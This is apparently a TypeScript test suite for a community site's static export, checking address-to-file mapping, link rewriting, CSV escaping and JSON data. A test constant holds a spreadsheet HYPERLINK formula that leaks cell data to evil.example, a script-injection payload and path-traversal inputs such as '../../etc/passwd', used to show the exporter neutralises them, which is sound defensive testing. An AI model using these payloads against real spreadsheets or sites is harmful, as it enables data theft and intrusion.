import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { eq } from 'drizzle-orm'
import t from 'tap'
import { posts, weekHosts, weeks } from '../../src/db/schema/index.ts'
import { addressesIn, fileOf, withAddresses } from '../../src/export/addresses.ts'
import { csv } from '../../src/export/csv.ts'
import { writeFolder } from '../../src/export/folder.ts'
import { contentsOf, publishedWeek, siteOf, SITE_URL } from '../support/exported.ts'
import { PUBLIC_URL } from '../support/app.ts'
import { PICTURE, SLOT, WEEK } from '../support/told-week.ts'

const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click") </script><script>alert(1)</script> ../../etc'

t.test('each address has one file, and what is none of ours has none', async (t) => {
  const hash = 'a1'.repeat(32)
  const cases: [address: string, type: string, file: string | null][] = [
    ['/@North', 'text/html', 'index.html'],
    ['/@North/weeks/2026-11-09', 'text/html', 'weeks/2026-11-09/index.html'],
    ['/@North/recaps?page=2', 'text/html', 'recaps/page-2/index.html'],
    ['/@North/weeks/2026-11-09/one-file.html', 'text/html', 'weeks/2026-11-09/one-file.html'],
    ['/privacy', 'text/html', 'privacy/index.html'],
    ['/@North/rota.ics', 'text/calendar', 'rota.ics'],
    [`/pictures/${hash}`, 'image/jpeg', `pictures/${hash}/picture.jpg`],
    [`/pictures/${hash}/960.avif`, 'image/avif', `pictures/${hash}/960.avif`],
    [`/pictures/${hash}/moving`, 'image/gif', `pictures/${hash}/moving.gif`],
    ['/@Northern', 'text/html', null],
    ['/@North/../../etc/passwd', 'text/html', null],
    ['/@North/.htaccess/x', 'text/html', '.htaccess/x/index.html'],
    ['/@North/a%2fb', 'text/html', null],
    ['/@North/x?who=me', 'text/html', null],
    ['/@North//x', 'text/html', null],
    ['/@North/data', 'application/octet-stream', null],
  ]
  for (const [address, type, file] of cases) t.equal(fileOf(address, type, 'North'), file, address)
})

t.test('every address of a page is found and moved, and nothing that is text', async (t) => {
  const html =
    '<a href="/one?a&#x3D;1&amp;b" class="x">href="/text"</a><img src="/two" alt="src=&quot;/no&quot; > /no">' +
    '<source srcset="/three 480w, /four 960w"><a aria-label="Five" href="/five">five</a><a href="#six">6</a><link rel="x" href="/five">'
  t.same(addressesIn(html), ['/one?a=1&b', '/two', '/three', '/four', '/five', '#six', '/five'])
  const moved = withAddresses(html, (address) =>
    address === '/five' || address === '/four' ? null : address.replace('/', '../'),
  )
  t.equal(
    moved,
    '<a href="../one?a=1&amp;b" class="x">href="/text"</a><img src="../two" alt="src=&quot;/no&quot; > /no">' +
      '<source srcset="../three 480w"><span>five</span><a href="#six">6</a>',
  )
})

t.test('what a spreadsheet would take for a formula is words', async (t) => {
  const risky = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '＝1', '\n@x']
  const lines = csv(
    ['text', 'number'],
    risky.map((one) => [one, -1]),
  )
  for (const one of risky) t.ok(lines.includes(`'${one}`), JSON.stringify(one))
  t.equal(
    csv(['a', 'b'], [['He said "no", twice\nand left', null]]),
    '\ufeffa,b\r\n"He said ""no"", twice\nand left",\r\n',
  )
})

t.test('the data of the weeks is what stands on their pages, whatever people wrote', async (t) => {
  const world = await publishedWeek(t, {
    sayings: [
      { id: '141', when: 'Fri 17:10', by: HOSTILE, text: HOSTILE, answers: '130', chosen: true },
      { id: '142', when: 'Fri 17:11', by: 'Nobody Asked', text: 'This stands nowhere.', answers: '130' },
    ],
  })
  const folder = join(t.testdir(), 'site')
  await writeFolder(folder, siteOf(world))
  const read = (path: string) => readFileSync(join(folder, path), 'utf8')
  const { weeks } = JSON.parse(read('data/weeks.json')) as {
    weeks: { slot: string; theme: string; address: string; posts: Record<string, unknown>[] }[]
  }
  t.match(weeks, [
    { slot: SLOT, theme: 'Four hundred front doors', address: `${SITE_URL}/@NorthDaleHealth/weeks/${SLOT}` },
  ])
  const { posts } = weeks[0]!
  t.match(
    posts.find(({ id }) => id === '141'),
    { by: HOSTILE, text: HOSTILE, kind: 'reply', answers: '130' },
    'a program gets the words as they are',
  )
  t.match(
    posts.find(({ id }) => id === '104'),
    { kind: 'post', answers: '103', address: /\/status\/104$/ },
  )
  t.match(
    posts.find(({ id }) => id === '103'),
    { pictures: [{ alt: 'A bag, open on a table.' }] },
  )
  t.notOk(
    posts.some(({ id }) => id === '142' || id === '113'),
    'what nobody chose is in no data',
  )

  const table = read('data/posts.csv')
  t.ok(
    table.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")`),
    'an apostrophe before a formula',
  )
  t.notMatch(table, /(^|,)"?[=+@-]/m, 'no cell begins as a formula')
  t.match(
    read('data/weeks.csv'),
    /^\ufeffweek,.*\r\n2026-11-09,2026-11-13,Four hundred front doors,Ruth Ellwood,/,
  )
  for (const [path, bytes] of contentsOf(folder)) {
    t.match(path, /^[\w./-]+$/, 'no name of a file is anybody’s words')
    if (/\.html(\.br|\.gz)?$/.test(path)) t.notMatch(bytes.toString(), '<script', path)
  }
})

t.test('a week without a story is kept, and so is what was said in a cancelled one', async (t) => {
  const world = await publishedWeek(t)
  const { db } = world
  await db.write(async (tx) => {
    const [week] = await tx.select().from(weeks).where(eq(weeks.id, WEEK))
    const [host] = await tx.select().from(weekHosts).where(eq(weekHosts.weekId, WEEK))
    const [post] = await tx.select().from(posts).where(eq(posts.networkId, '101'))
    const times = { opensAt: new Date('2026-11-02T09:00:00Z'), closesAt: new Date('2026-11-06T18:00:00Z') }
    await tx
      .insert(weeks)
      .values({ ...week!, id: 'week-cut', slot: '2026-11-02', state: 'cancelled', ...times })
    const endedAt = new Date('2026-11-04T12:00:00Z')
    await tx
      .insert(weekHosts)
      .values({ ...host!, id: 'host-cut', weekId: 'week-cut', endedAt, ending: 'cancelled' })
    const untold = {
      opensAt: new Date('2026-10-26T09:00:00Z'),
      closesAt: new Date('2026-10-30T18:00:00Z'),
    }
    await tx.insert(weeks).values({ ...week!, id: 'week-untold', slot: '2026-10-26', ...untold })
    await tx.insert(weekHosts).values({ ...host!, id: 'host-untold', weekId: 'week-untold' })
    const said = { networkId: '90', text: 'Rain on Monday.', createdAt: new Date('2026-11-02T10:00:00Z') }
    await tx.insert(posts).values({ ...post!, id: 'row-cut', weekId: 'week-cut', ...said })
  })
  const folder = join(t.testdir(), 'site')
  await writeFolder(folder, siteOf(world))
  const files = contentsOf(folder)
  t.match(String(files.get('weeks/2026-11-02/index.html')), 'Rain on Monday.')
  t.ok(files.has('weeks/2026-11-02/share.png'), 'with the picture that it names')
  t.notMatch(String(files.get('data/weeks.json')), 'Rain on Monday.', 'its story was not published')
  t.match(
    String(files.get('weeks/2026-10-26/index.html')),
    'Its story is being put together',
    'no page leads there',
  )
  for (const slot of ['2026-10-26', '2026-11-02', SLOT])
    t.match(String(files.get('sitemap.xml')), `<loc>${SITE_URL}/@NorthDaleHealth/weeks/${slot}</loc>`)
})

t.test('a picture that is missing is told by its description', async (t) => {
  const world = await publishedWeek(t)
  const folder = join(t.testdir(), 'site')
  await writeFolder(folder, siteOf(world))
  const page = readFileSync(join(folder, 'weeks', SLOT, 'index.html'), 'utf8')
  t.match(page, /<img alt="A red car on a winding lane/, 'without an address that leads nowhere')
  t.notMatch(page, PICTURE)
})

t.test('a folder names its own address, and what needs the app leads there or is left out', async (t) => {
  const world = await publishedWeek(t, { mode: 'sandbox' })
  const folder = join(t.testdir(), 'site')
  await writeFolder(folder, siteOf(world))
  const page = readFileSync(join(folder, 'weeks', SLOT, 'index.html'), 'utf8')
  t.match(page, `<link rel="canonical" href="${SITE_URL}/@NorthDaleHealth/weeks/${SLOT}">`)
  t.match(page, `<meta property="og:image" content="${SITE_URL}/@NorthDaleHealth/weeks/${SLOT}/share.png">`)
  t.match(page, `<a href="${PUBLIC_URL}/@NorthDaleHealth/removal">Be taken off these pages</a>`)
  t.match(page, `<a href="${PUBLIC_URL}/@NorthDaleHealth/take-part">Host a week</a>`)
  t.match(page, '<a href="one-file.html">This week as one file</a>')
  t.match(page, '<a href="../../data/weeks.csv" type="text/csv">The weeks as a table</a>')
  t.match(page, '<a href="../../data/posts.csv" type="text/csv">The posts as a table</a>')
  t.match(page, '<b>Sandbox:</b> everything here is made up.')
  t.notMatch(page, /Sign in|href="\/|sandbox"/, 'nothing that nobody answers')
  const feed = readFileSync(join(folder, 'feed.json'), 'utf8')
  t.match(feed, `${SITE_URL}/@NorthDaleHealth/pictures/`)
  t.notMatch(feed, `${SITE_URL}/pictures/`)
  t.match(
    readFileSync(join(folder, 'sitemap.xml'), 'utf8'),
    `<loc>${SITE_URL}/@NorthDaleHealth/privacy</loc>`,
  )
  t.notMatch(
    (await world.app.inject(`/@NorthDaleHealth/weeks/${SLOT}`)).body,
    'one-file',
    'the app’s own pages are as they were',
  )
})
